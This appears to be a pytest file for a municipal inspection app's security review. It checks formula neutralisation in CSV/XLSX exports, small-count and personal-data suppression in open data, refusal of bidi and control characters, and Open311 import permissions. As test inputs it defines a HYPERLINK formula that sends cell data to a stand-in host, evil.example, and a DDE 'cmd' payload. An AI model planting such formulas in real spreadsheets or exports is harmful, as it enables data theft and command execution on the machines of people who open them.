"""Review security-2026-11, H5: no exported cell is ever a live spreadsheet formula."""
import csv
import zipfile

from desktop.cli import main
from desktop.domain.spreadsheet import safe_row
from desktop.store.db import open_store

EVIL = '=HYPERLINK("http://evil.example/?x="&A2,"Cliquer ici")'
CMD = "=cmd|' /C calc'!A0"


def test_safe_row_neutralises_every_formula_start():
    cells = ["=1+1", "+1", "-2", "@SUM(A1)", "\tx", "\rx", "ok", 3, -4, None, ""]
    assert safe_row(cells) == ["'=1+1", "'+1", "'-2", "'@SUM(A1)", "'\tx", "'\rx", "ok", 3, -4, None, ""]


def _rename(demo_path):
    with open_store(demo_path) as store:
        site = store.scalar("SELECT site_id FROM inspection ORDER BY inspected_at DESC LIMIT 1")
        district = store.scalar("SELECT id FROM district LIMIT 1")
        with store.transaction(None) as tx:
            tx.update("site", site, {"name": EVIL, "address": CMD})
            tx.update("district", district, {"name_fr": EVIL})
        return store.scalar("SELECT substr(inspected_at, 1, 4) FROM inspection ORDER BY inspected_at DESC LIMIT 1")


def _cells(path):
    with path.open(encoding="utf-8-sig") as fh:
        return [c for row in csv.reader(fh) for c in row]


def test_inspections_csv_export_has_no_formula(demo_path, tmp_path):
    _rename(demo_path)
    out = tmp_path / "i.csv"
    assert main(["inspections", "export", "--db", str(demo_path), "--format", "csv", "--out", str(out)]) == 0
    cells = _cells(out)
    assert not [c for c in cells if c.startswith(("=", "+", "@"))]
    assert "'" + EVIL in cells or "'" + CMD in cells


def test_open_data_csv_has_no_formula(demo_path, tmp_path):
    year = _rename(demo_path)
    assert main(["opendata", "--db", str(demo_path), "--year", year, "--out", str(tmp_path / "od")]) == 0
    cells = [c for f in (tmp_path / "od").glob("*.csv") for c in _cells(f)]
    assert cells and not [c for c in cells if c.startswith(("=", "+", "@"))]
    assert "'" + EVIL in cells


class _Model:
    """An in-memory list, as RowsTableModel gives it."""
    headers = ["nom", "adresse", "n"]

    def __init__(self, rows):
        self.rows = rows

    @staticmethod
    def formatter(row):
        return row


def test_list_export_xlsx_writes_text_not_formulas(tmp_path):
    from openpyxl import load_workbook
    from desktop.ui.list_export import export_model
    model = _Model([(EVIL, CMD, 3), ("-1", "@x", -2)])
    path = tmp_path / "l.xlsx"
    assert export_model(model, path) == 2
    with zipfile.ZipFile(path) as z:
        xml = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml
    book = load_workbook(path)
    assert [c.value for c in book.active[2]] == [EVIL, CMD, 3]  # shown as the text it is
    assert export_model(model, tmp_path / "l.csv") == 2
    assert _cells(tmp_path / "l.csv")[3:6] == ["'" + EVIL, "'" + CMD, "3"]


def test_open_data_suppresses_small_cells_and_names(demo_path, tmp_path):
    """Review M3: no count under 5 is published (no 'only restaurant in that cell'), and complaints
    that do carry names and contacts leak none of them."""
    import json
    from desktop.domain.catalogue import load_catalogue
    from desktop.services.opendata import export_open_data
    from desktop.store.indicators import year_scope
    with open_store(demo_path) as store:
        year = int(store.scalar("SELECT max(substr(received_on, 1, 4)) FROM complaint"))
        ids = [r["id"] for r in store.query("SELECT id FROM complaint WHERE substr(received_on, 1, 4) = ? LIMIT 40",
                                             (str(year),))]
        with store.transaction(None) as tx:
            for n, cid in enumerate(ids):
                tx.update("complaint", cid, {"complainant_name": f"Fatima Zahra El Idrissi {n}",
                                             "complainant_contact": f"0662-99{n:04d} fz{n}@example.ma",
                                             "description": f"Le voisin Karim Bennani (CIN BE77{n:04d})"})
        files = export_open_data(store, load_catalogue(), year_scope(year), tmp_path / "od")
    blob = "\n".join(f.read_text(encoding="utf-8-sig") for f in files)
    for secret in ("Idrissi", "0662-99", "example.ma", "Bennani", "BE77"):
        assert secret not in blob
    for f in files:
        if f.suffix == ".csv" and "dictionnaire" not in f.name and "arretes" not in f.name:
            with f.open(encoding="utf-8-sig") as fh:
                counts = [int(row[-1]) for row in list(csv.reader(fh))[1:]]
            assert all(c >= 5 for c in counts), f.name
    cells = json.loads((tmp_path / "od" / "controles_mailles.geojson").read_text())["features"]
    assert all(c["properties"]["nombre"] >= 5 for c in cells)
    assert all(c["properties"]["avec_infraction"] in (None, 0) or c["properties"]["avec_infraction"] >= 5 for c in cells)


def test_bad_open311_values_are_refused_not_crashes():
    """Review L1: a number where a date is expected is a clear refusal, not a traceback."""
    import pytest
    from desktop.domain.complaints import ComplaintError, from_open311
    with pytest.raises(ComplaintError) as refused:
        from_open311({"service_request_id": "A", "requested_datetime": 12345})
    assert refused.value.code == "open311_malformed"


def test_control_and_bidi_characters_and_huge_texts_are_refused():
    """Review L2: NUL and U+202E in a complaint, and a 50 MB description."""
    from datetime import date
    from desktop.domain.complaints import ComplaintInput, validate
    base = dict(channel="desk", received_on=date(2026, 1, 5), description="Bruit nocturne d'un café")
    ok = validate(ComplaintInput(**base), lambda f: True, None)
    assert ok == []
    for bad in ("Bruit\x00 caché du café", "Bruit \u202eéfac ud", "Bruit\u2066 isolé du café"):
        problems = validate(ComplaintInput(**{**base, "description": bad}), lambda f: True, None)
        assert ("description", "text_hidden_characters") in problems
    assert ("reference", "text_hidden_characters") in validate(
        ComplaintInput(**{**base, "reference": "PL-\u202e1"}), lambda f: True, None)
    assert ("description", "complaint_text_too_long") in validate(
        ComplaintInput(**{**base, "description": "x" * 50_000_000}), lambda f: True, None)


def test_a_site_name_with_a_bidi_override_is_refused(store, catalogue):
    import pytest
    from desktop.domain.errors import Refusal
    from desktop.domain.model import SiteInput
    from desktop.store.sites import create_site
    with pytest.raises(Refusal) as refused:
        with store.transaction(None) as tx:
            create_site(tx, SiteInput(kind="establishment", name="Café \u202eéfaC"), None, None, None)
    assert refused.value.code == "text_hidden_characters"


def test_open311_export_is_journaled_and_needs_no_personal_right(demo_path, tmp_path):
    """Review M2: the Open311 export carries no personal data, and each export is journaled."""
    out = tmp_path / "o.json"
    assert main(["complaints", "export", "--format", "open311", "--db", str(demo_path), "--out", str(out)]) == 0
    import json
    with open_store(demo_path) as store:
        entries = store.query("SELECT op, changes FROM journal WHERE entity = 'export'")
    assert [e["op"] for e in entries] == ["open311"]
    assert json.loads(entries[0]["changes"])["rows"] == len(json.loads(out.read_text()))


def test_officer_cannot_bulk_import_open311(store, catalogue, tmp_path):
    """Review L7: a bulk import is not an officer's, even though he records complaints."""
    import json

    import pytest
    from desktop.domain.auth import PermissionDenied
    from desktop.store.complaints import import_open311
    from desktop.store.users import authenticate
    path = tmp_path / "r.json"
    path.write_text(json.dumps([{"service_request_id": "SR-1", "requested_datetime": "2026-01-05T10:00:00Z",
                                 "description": "Bruit de moteur la nuit dans la rue", "service_code": "hygiene"}]))
    with pytest.raises(PermissionDenied):
        import_open311(store, authenticate(store, "agent001", "agent-demo"), catalogue, path)
    assert import_open311(store, authenticate(store, "coordinateur", "coord-demo"), catalogue, path) == 1
